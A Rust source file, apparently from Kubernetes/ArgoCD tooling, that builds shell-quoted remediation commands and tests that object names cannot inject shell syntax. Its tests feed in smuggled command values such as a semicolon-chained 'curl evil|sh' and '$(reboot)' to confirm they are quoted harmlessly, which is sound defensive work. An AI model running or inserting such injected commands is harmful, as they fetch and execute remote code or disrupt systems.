//! Ways out: commands that can be pasted into a shell, each with its explanation, and sentences where no command helps.
//!
//! Names of objects may hold almost any character (RBAC allows all but `/` and `%`), so every word of a command is
//! quoted here and nowhere else. What is quoted is read alike by bash and zsh.

use std::{borrow::Cow, fmt};

use serde::{Deserialize, Serialize};

use crate::object::{ObjectRef, RBAC_GROUP};

/// How far a command stands from the margin. Nothing else in a message stands there.
pub const INDENT: &str = "    ";

/// One line for a shell.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(transparent)]
pub struct Command {
    line: String,
}

impl Command {
    /// A command that begins with fixed words, such as `argocd app sync`. What is not known when the program is built
    /// comes by [`Self::word`].
    pub fn new(words: &'static str) -> Self {
        Self { line: words.to_owned() }
    }

    /// Adds one word, quoted if need be.
    #[must_use]
    pub fn word(mut self, word: impl AsRef<str>) -> Self {
        self.line.push(' ');
        self.line.push_str(&quote(word.as_ref()));
        self
    }

    /// Adds several words.
    #[must_use]
    pub fn words<W: AsRef<str>>(self, words: impl IntoIterator<Item = W>) -> Self {
        words.into_iter().fold(self, Self::word)
    }

    /// Adds `-n NAMESPACE`, if there is one.
    #[must_use]
    pub fn namespace(self, namespace: &str) -> Self {
        if namespace.is_empty() { self } else { self.word("-n").word(namespace) }
    }

    /// Adds a word that begins with `before` and ends with what another command prints.
    #[must_use]
    pub fn output(mut self, before: &str, command: &Self) -> Self {
        self.line.push(' ');
        if !before.is_empty() {
            self.line.push_str(&quote(before));
        }
        self.line.extend(["\"$(", &command.line, ")\""]);
        self
    }

    /// Feeds what this prints to another command.
    #[must_use]
    pub fn pipe(self, next: &Self) -> Self {
        Self { line: format!("{} | {}", self.line, next.line) }
    }

    /// The line.
    pub fn as_str(&self) -> &str {
        &self.line
    }
}

impl fmt::Display for Command {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.line)
    }
}

/// How kubectl takes an object, `deployment/web` or `widget.example.com/a`, as one word: a name that begins with a hyphen
/// is no option then.
pub fn type_and_name(object: &ObjectRef) -> String {
    let kind = object.kind.kind.to_lowercase();
    match object.kind.group.as_str() {
        "" | "apps" | "batch" | RBAC_GROUP => format!("{kind}/{}", object.name),
        group => format!("{kind}.{group}/{}", object.name),
    }
}

/// One word for bash and for zsh.
fn quote(word: &str) -> Cow<'_, str> {
    // zsh replaces a word that begins with `=` by the path of a command, and both expand `~` at the beginning.
    let safe = |c: char| c.is_ascii_alphanumeric() || "_-./:@%+,=".contains(c);
    if !word.is_empty() && !word.starts_with('=') && word.chars().all(safe) {
        return Cow::Borrowed(word);
    }
    if word.chars().any(char::is_control) {
        return Cow::Owned(escaped(word));
    }
    // It fails on a NUL alone, which is a control character.
    shlex::try_quote(word).unwrap_or_else(|_| Cow::Owned(escaped(word)))
}

/// `$'…'`, which holds control characters without printing them: a message is read in a terminal, and pasted as one line.
fn escaped(word: &str) -> String {
    let mut text = String::from("$'");
    for c in word.chars().filter(|c| *c != '\0') {
        match c {
            '\\' => text.push_str("\\\\"),
            c if c.is_control() || ['\'', '!'].contains(&c) => {
                let mut bytes = [0; 4];
                text.extend(c.encode_utf8(&mut bytes).bytes().map(|byte| format!("\\x{byte:02x}")));
            }
            c => text.push(c),
        }
    }
    text.push('\'');
    text
}

/// One way out. It suffices by itself: where several steps are needed, they are the commands of one remedy.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(into = "String", from = "String")]
pub struct Remedy {
    /// What to do, or what the commands do: a sentence without a full stop.
    pub text: String,
    /// What to type, in this order; empty where no command helps.
    pub commands: Vec<Command>,
}

impl Remedy {
    /// A sentence.
    pub fn advice(text: impl Into<String>) -> Self {
        Self { text: text.into(), commands: Vec::new() }
    }

    /// A command, and in one sentence what it is good for.
    pub fn run(text: impl Into<String>, command: Command) -> Self {
        Self::steps(text, vec![command])
    }

    /// Commands to be typed one after the other.
    pub fn steps(text: impl Into<String>, commands: Vec<Command>) -> Self {
        Self { text: text.into(), commands }
    }

    /// Adds a command that comes next.
    #[must_use]
    pub fn then(mut self, command: Command) -> Self {
        self.commands.push(command);
        self
    }

    /// The sentence in one line, with the colon that leads to the commands.
    pub fn sentence(&self) -> String {
        // It may quote anything, and a line of it must never look like a command.
        let text: String = self.text.chars().map(|c| if c.is_control() { ' ' } else { c }).collect();
        let text = text.trim_start();
        if self.commands.is_empty() { text.to_owned() } else { format!("{text}:") }
    }
}

impl fmt::Display for Remedy {
    /// The sentence, and each command on an indented line of its own.
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.sentence())?;
        self.commands.iter().try_for_each(|command| write!(f, "\n{INDENT}{command}"))
    }
}

impl From<&str> for Remedy {
    fn from(text: &str) -> Self {
        Self::from(text.to_owned())
    }
}

impl From<String> for Remedy {
    /// A sentence, or what [`Remedy`] looks like when it is written.
    fn from(text: String) -> Self {
        let Some((sentence, commands)) = text.split_once(&format!(":\n{INDENT}")) else { return Self::advice(text) };
        let commands = commands.lines().map(|line| Command { line: line.trim_start().to_owned() }).collect();
        Self::steps(sentence, commands)
    }
}

impl From<Remedy> for String {
    fn from(remedy: Remedy) -> Self {
        remedy.to_string()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn line(word: &str) -> String {
        Command::new("echo").word(word).to_string()
    }

    #[test]
    fn ordinary_words_stay_as_they_are() {
        for word in ["argocd/web", "--cascade=false", "a.b/c=x", "system:serviceaccount:a:b", "2026-11-29T18:00:00Z"] {
            assert_eq!(line(word), format!("echo {word}"));
        }
    }

    #[test]
    fn words_that_mean_something_to_a_shell_are_quoted() {
        assert_eq!(line("rolebinding/x;curl evil|sh"), "echo 'rolebinding/x;curl evil|sh'");
        assert_eq!(line("$(reboot)"), "echo '$(reboot)'");
        assert_eq!(line(""), "echo ''");
        assert_eq!(line("=ls"), "echo '=ls'");
        assert_eq!(line("~root"), "echo '~root'");
        assert_eq!(line("it's"), "echo \"it's\"");
    }

    #[test]
    fn control_characters_are_never_printed() {
        assert_eq!(line("a\nb'c\u{1b}!\\"), r"echo $'a\x0ab\x27c\x1b\x21\\'");
        assert_eq!(line("\u{85}"), r"echo $'\xc2\x85'");
    }

    #[test]
    fn written_remedy_reads_back() {
        let remedy = Remedy::run("turn it off", Command::new("argocd app set").word("a b")).then(Command::new("ls"));
        assert_eq!(remedy.to_string(), "turn it off:\n    argocd app set 'a b'\n    ls");
        assert_eq!(Remedy::from(remedy.to_string()), remedy);
        assert_eq!(Remedy::advice("    sudo reboot\nnow").to_string(), "sudo reboot now");
    }

    #[test]
    fn output_and_pipe_join_commands() {
        let inner = Command::new("kubectl get ns").word("a b");
        assert_eq!(
            Command::new("kubectl annotate").output("uid=", &inner).pipe(&Command::new("cat")).as_str(),
            "kubectl annotate uid=\"$(kubectl get ns 'a b')\" | cat"
        );
    }
}
